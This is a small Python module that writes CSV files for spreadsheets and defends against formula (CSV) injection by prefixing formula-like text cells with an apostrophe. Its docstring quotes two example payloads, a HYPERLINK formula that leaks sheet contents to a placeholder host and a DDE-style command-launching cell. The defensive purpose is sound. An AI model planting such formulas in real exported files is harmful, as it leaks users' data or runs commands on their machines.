"""CSV written for a curator to open in a spreadsheet, with formula injection neutralised.

Excel and LibreOffice run a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return as a formula (``=HYPERLINK("http://host/?"&A1, "click")`` leaks the sheet). Following
OWASP's CSV-injection rule, such a *text* cell is written with a leading apostrophe, which the
spreadsheet shows as plain text (the apostrophe itself is hidden there). Text is prefixed even when
it reads as a number (``"-3"``): a catalogue cell is text, and telling a number from a payload
such as ``-1+cmd|' /C calc'!A0`` by parsing is what attackers probe. Values that *are* numbers
(``int``/``float``, e.g. scores) are written as numbers, so a negative score stays ``-0.42``.

Kept free of heavy imports so light processes (the audit store) can use it.
"""
from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """``value`` as a spreadsheet shows it literally: text starting like a formula gets a
    leading ``'``; numbers, ``None`` and other text are returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def spreadsheet_csv(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """UTF-8 CSV bytes of ``header`` and ``rows``, every text cell neutralised."""
    buf = io.StringIO()
    # CRLF, RFC 4180's line break and what spreadsheets write; it also makes Python's csv quote a
    # lone CR inside a cell (with "\n" it would not, and the row would split in two)
    w = csv.writer(buf, lineterminator="\r\n")
    w.writerow([neutralise(h) for h in header])
    w.writerows([neutralise(v) for v in row] for row in rows)
    return buf.getvalue().encode("utf-8")
